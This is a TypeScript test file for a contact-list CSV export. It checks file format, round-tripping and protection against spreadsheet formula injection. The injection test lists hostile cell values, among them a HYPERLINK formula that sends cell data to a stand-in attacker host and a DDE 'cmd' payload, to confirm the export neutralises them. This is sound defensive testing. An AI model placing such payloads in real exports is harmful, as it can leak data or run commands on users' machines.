import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { howKnownOptions, organisationRelations, type Contact } from '#domain/contact';
import { csvColumns, LIST_SEPARATOR, serializeContactsCsv } from './csv-export.ts';

function contact(overrides: Partial<Contact> = {}): Contact {
  return {
    id: '1b4e28ba-2fa1-41d2-883f-0016d3cca427',
    name: 'Bjørn Dæhlie',
    pronunciation: 'BYURN DAY-lee',
    title: 'Head of data',
    otherTitles: ['Data lead', 'Analytics manager'],
    organisationId: 'b6f1c1de-8a55-4b9e-9b0a-3c2d1e0f9a88',
    organisation: 'Statkraft, "Oslo"',
    organisationRelation: 'former_employee',
    field: 'Energy',
    location: 'Oslo',
    emails: ['bjorn@example.no'],
    phones: ['+47 22 00 00 00'],
    linkedinUrl: 'https://www.linkedin.com/in/bjorn',
    howKnown: 'colleague',
    metOn: '2023-09-01',
    metWhere: 'Kickoff',
    introducedById: null,
    mayUseIntroducerName: false,
    tags: ['energy', 'mentor'],
    notes: 'Line one\nline two, with a comma\r\nand "quotes"',
    version: 2,
    createdAt: '2023-09-01T08:00:00.000Z',
    updatedAt: '2026-11-22T10:15:42.123Z',
    ...overrides,
  };
}

/** The characters that make a spreadsheet run a cell as a formula (csv-stringify's list). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

function readCsv(text: string): Record<string, string>[] {
  return parse(text, { bom: true, columns: true, relax_column_count: false }) as Record<string, string>[];
}

/**
 * Reading the file back: one apostrophe comes off a cell that starts with "'" and then a formula
 * character (the only change the export makes), and lists split at " ::: ". Lossy, by design:
 * the organisation's id and the version are not in the file; a value that really began with "'="
 * loses its apostrophe; a list item holding " ::: " splits in two.
 */
function contactsFrom(text: string) {
  const inert = (value: string) =>
    value.startsWith("'") && FORMULA_START.test(value.slice(1)) ? value.slice(1) : value;
  const list = (value: string) => (value === '' ? [] : value.split(LIST_SEPARATOR));
  return readCsv(text).map((raw) => {
    const row = Object.fromEntries(Object.entries(raw).map(([key, value]) => [key, inert(value)])) as Record<
      string,
      string
    >;
    return {
      id: row['ID'],
      name: row['Name'],
      pronunciation: row['Pronunciation'],
      title: row['Title'],
      otherTitles: list(row['Other titles'] ?? ''),
      organisation: row['Organisation'],
      organisationRelation: row['Relation to organisation'],
      field: row['Field'],
      location: row['Location'],
      emails: list(row['E-mails'] ?? ''),
      phones: list(row['Phones'] ?? ''),
      linkedinUrl: row['LinkedIn'],
      howKnown: row['How we know each other'],
      metOn: row['Met on'],
      metWhere: row['Met where'],
      introducedById: row['Introduced by ID'] || null,
      mayUseIntroducerName: row['May use introducer name'] === 'yes',
      tags: list(row['Tags'] ?? ''),
      notes: row['Notes'],
      createdAt: row['Created'],
      updatedAt: row['Updated'],
    };
  });
}

function withoutLossyFields(original: Contact) {
  const { organisationId: _organisationId, version: _version, ...rest } = original;
  return rest;
}

describe('CSV export', () => {
  it('starts with a BOM and a header row, and ends every row with CRLF', () => {
    const text = serializeContactsCsv([contact()]);
    expect(text.startsWith('\uFEFFID,Name,Pronunciation,Title,')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')[0]).toBe(`\uFEFF${csvColumns.join(',')}`);
    expect(readCsv(serializeContactsCsv([]))).toEqual([]);
  });

  it('reads back as what was written: one row per contact, line breaks and quotes intact', () => {
    const contacts = [
      contact(),
      contact({ id: 'second', name: 'Sri Wahyuni', notes: 'only\rcarriage\nreturns\r\n', tags: [] }),
    ];
    expect(contactsFrom(serializeContactsCsv(contacts))).toEqual(contacts.map(withoutLossyFields));
  });

  it('names the introducer, by name and by id', () => {
    const introducer = contact({ id: 'intro', name: 'Ingrid Bergersen' });
    const introduced = contact({ id: 'new', introducedById: 'intro', mayUseIntroducerName: true });
    const [, row] = readCsv(serializeContactsCsv([introducer, introduced]));
    expect(row).toMatchObject({
      'Introduced by': 'Ingrid Bergersen',
      'Introduced by ID': 'intro',
      'May use introducer name': 'yes',
    });
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")'],
    ["+cmd|' /C calc'!A0"],
    ['-2+3'],
    ['@SUM(1+1)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['＝1+1'],
  ])('makes a cell starting like %j inert with a leading apostrophe', (payload) => {
    const hostile = contact({
      name: payload,
      title: payload,
      organisation: payload,
      notes: payload,
      emails: [payload],
      tags: [payload, 'safe'],
      location: payload,
    });
    const [row] = readCsv(serializeContactsCsv([hostile]));
    for (const column of ['Name', 'Title', 'Organisation', 'Notes', 'E-mails', 'Tags', 'Location']) {
      expect(row?.[column], column).toMatch(/^'/);
      expect(row?.[column]?.slice(1).startsWith(payload), column).toBe(true);
    }
    expect(contactsFrom(serializeContactsCsv([hostile]))).toEqual([withoutLossyFields(hostile)]);
  });

  it('leaves ordinary cells alone', () => {
    const [row] = readCsv(
      serializeContactsCsv([contact({ name: "O'Brien", title: 'a = b', notes: ' =not at the start' })]),
    );
    expect(row).toMatchObject({ Name: "O'Brien", Title: 'a = b', Notes: ' =not at the start' });
  });

  it('round-trips any contact (fast-check)', () => {
    const character = fc.oneof(
      fc.constantFrom('\r', '\n', '\r\n', '\t', ',', ';', '"', "'", '=', '+', '-', '@', ' '),
      fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
    );
    // A value that really starts with an apostrophe and a formula character is the one ambiguity.
    const text = fc
      .string({ unit: character, maxLength: 40 })
      .filter((value) => !/^'[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(value));
    const list = fc.array(
      text.filter((value) => value !== '' && !value.includes(LIST_SEPARATOR.trim())),
      { maxLength: 3 },
    );
    const fields = fc.record({
      name: text,
      pronunciation: text,
      title: text,
      otherTitles: list,
      organisation: text,
      organisationRelation: fc.constantFrom(...organisationRelations, '' as const),
      field: text,
      location: text,
      emails: list,
      phones: list,
      linkedinUrl: text,
      howKnown: fc.constantFrom(...howKnownOptions, '' as const),
      metOn: text,
      metWhere: text,
      mayUseIntroducerName: fc.boolean(),
      tags: list,
      notes: text,
    });
    fc.assert(
      fc.property(fc.array(fields, { minLength: 1, maxLength: 3 }), (many) => {
        const contacts = many.map((one, index) => contact({ ...one, id: `id-${index}` }));
        expect(contactsFrom(serializeContactsCsv(contacts))).toEqual(contacts.map(withoutLossyFields));
      }),
      { numRuns: 300 },
    );
  });
});
